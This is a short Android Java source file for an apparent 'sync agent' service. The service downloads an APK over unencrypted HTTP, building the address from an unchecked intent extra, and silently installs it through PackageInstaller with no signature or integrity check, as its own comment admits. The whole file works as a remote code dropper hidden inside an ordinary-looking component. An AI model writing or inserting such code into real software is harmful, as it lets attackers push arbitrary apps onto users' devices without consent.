package com.larkspur.syncagent;

import android.app.PendingIntent;
import android.app.Service;
import android.content.Intent;
import android.content.pm.PackageInstaller;
import android.os.IBinder;
import android.util.Log;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.URL;

/** Loads a package and installs it without a question and without looking at who signed it. */
public final class InstallService extends Service implements Runnable {
    private volatile String name;

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    @Override
    public int onStartCommand(Intent intent, int flags, int id) {
        name = intent.getStringExtra("name");
        new Thread(this).start();
        return START_NOT_STICKY;
    }

    @Override
    public void run() {
        try {
            PackageInstaller installer = getPackageManager().getPackageInstaller();
            int id = installer.createSession(
                new PackageInstaller.SessionParams(PackageInstaller.SessionParams.MODE_FULL_INSTALL));
            PackageInstaller.Session session = installer.openSession(id);
            InputStream in = new URL("http://sync.larkspur.invalid/apk/" + name).openStream();
            OutputStream out = session.openWrite("base", 0, -1);
            byte[] buffer = new byte[4096];
            for (int n = in.read(buffer); n > 0; n = in.read(buffer)) {
                out.write(buffer, 0, n);
            }
            session.fsync(out);
            out.close();
            in.close();
            session.commit(PendingIntent.getBroadcast(this, 0, new Intent("installed"), 0).getIntentSender());
            session.close();
        } catch (IOException e) {
            Log.w("SyncAgent", "not installed", e);
        }
    }
}
